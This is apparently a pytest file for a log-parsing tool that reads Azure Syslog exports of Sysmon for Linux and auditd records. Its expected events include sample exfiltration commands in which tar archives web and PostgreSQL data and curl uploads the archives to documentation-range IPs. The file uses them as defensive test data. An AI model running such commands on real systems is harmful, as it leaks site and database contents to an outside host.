"""Golden tests for Sentinel / Azure Monitor Syslog table exports: rows whose SyslogMessage holds
Sysmon for Linux XML or auditd records (tests/fixtures/azure_syslog, written from the Syslog
table's documented columns), unwrapped and read by the existing readers with the row's host."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

from tests.helpers import read
from tidewaiter.events import Activity, Endpoint, File, Kind, Process, RawRef
from tidewaiter.sources import get

WEB = "web-02.internal.cloudapp.net"
DB = "db-01.internal.cloudapp.net"


def _utc(text: str) -> float:
    return datetime.fromisoformat(text).replace(tzinfo=UTC).timestamp()


def test_sysmon_for_linux_and_auditd_rows(fixtures: Path) -> None:
    path = fixtures / "azure_syslog" / "syslog_table.json"
    events, report = read(path)
    assert report.files == {str(path): "azure-syslog"}
    # 15 rows: a cron line (nothing to use), 4 Sysmon events, 10 audit records making 3 events.
    assert (report.records, report.events, report.ignored, report.skipped_total) == (15, 7, 1, 0)
    web = [e for e in events if e.host == WEB]
    db = [e for e in events if e.host == DB]
    assert len(web) == 4
    assert len(db) == 3

    tar, written, curl, connect = web
    # The row's Computer, not the XML's own "web-02": the name Log Analytics knows the host by.
    assert tar.raw == RawRef("azure-syslog", str(path), line=1, record_id="51001")
    assert (tar.kind, tar.activity) == (Kind.PROCESS, Activity.LAUNCH)
    assert tar.time == _utc("2024-05-02 10:00:00.118")  # Sysmon's UtcTime, not TimeGenerated
    assert tar.process is not None
    assert tar.process.parent is not None
    assert (tar.process.pid, tar.process.path, tar.process.cmd_line, tar.process.user) == (
        24011,
        "/usr/bin/tar",
        "tar -czf /tmp/site.tgz /var/www",
        "root",
    )
    assert tar.process.parent.path == "/usr/bin/bash"
    assert (written.kind, written.file) == (Kind.FILE, File(path="/tmp/site.tgz"))
    assert curl.process is not None
    assert curl.process.cmd_line == "curl -T /tmp/site.tgz https://203.0.113.77/u"
    assert connect.dst_endpoint == Endpoint(ip="203.0.113.77", port=443)

    launch, upload, egress = db
    assert launch.raw.source == "azure-syslog"
    assert launch.time == 1714644000.123  # msg=audit(...)
    assert launch.process == Process(
        pid=901,
        path="/usr/bin/tar",
        cmd_line="tar -czf /tmp/db.tgz /var/lib/postgresql",
        args=("tar", "-czf", "/tmp/db.tgz", "/var/lib/postgresql"),
        cwd="/root",
        user="0",
        session="1",
        parent=Process(pid=900),
    )
    assert upload.process is not None
    assert upload.process.cmd_line == "curl --data-binary @/tmp/db.tgz https://198.51.100.9/in"
    assert (egress.activity, egress.dst_endpoint) == (
        Activity.CONNECT,
        Endpoint(ip="198.51.100.9", port=443),
    )


def test_audit_records_of_two_hosts_are_not_joined(tmp_path: Path) -> None:
    """Serials are per host: the same audit(time:serial) from two machines is two events."""
    line = (
        "type=SYSCALL msg=audit(1714644000.123:7): arch=c000003e syscall=59 success=yes exit=0 "
        'ppid=1 pid={pid} uid=0 comm="tar" exe="/usr/bin/tar"'
    )
    rows = [
        {"Computer": host, "TimeGenerated": "2024-05-02T10:00:01Z", "SyslogMessage": message}
        for host, pid in (("a", 10), ("b", 20))
        for message in (
            line.format(pid=pid),
            f'type=EXECVE msg=audit(1714644000.123:7): argc=2 a0="tar" a1="-c{host}"',
        )
    ]
    path = tmp_path / "syslog.json"
    path.write_text(json.dumps(rows))
    events, report = read(path)
    assert sorted((e.host, e.process.pid, e.process.cmd_line) for e in events if e.process) == [
        ("a", 10, "tar -ca"),
        ("b", 20, "tar -cb"),
    ]
    assert report.records == report.events + report.ignored + report.skipped_total + 2


def test_bad_rows_are_counted_with_their_line(tmp_path: Path) -> None:
    path = tmp_path / "syslog.json"
    path.write_text(
        '[{"Computer": "h", "SyslogMessage": "<Event><System><EventID>1</EventID></System>"},\n'
        ' {"Computer": "h", "Facility": "user"},\n'
        ' {"Computer": "h", "SyslogMessage": "type=SYSCALL msg=audit(x:1): pid=1"},\n'
        ' "not a row"]\n'
    )
    events, report = read(path, fmt="azure-syslog")
    assert events == []
    assert report.records == report.events + report.ignored + report.skipped_total
    assert [(p.where, p.reason) for p in report.examples] == [
        ("line 1", "malformed XML (no element found)"),
        ("line 2", "Syslog row without SyslogMessage"),
        ("line 3", "SYSCALL record without a msg=audit(time:serial) header"),
        ("line 4", "text outside any JSON object"),
    ]


def test_sniff_is_the_syslog_table_only(fixtures: Path) -> None:
    source = get("azure-syslog")
    assert source.sniff((fixtures / "azure_syslog" / "syslog_table.json").read_bytes())
    assert not source.sniff((fixtures / "windows_json" / "nxlog_mordor.json").read_bytes())
    assert not source.sniff(b"SyslogMessage: not JSON\n")
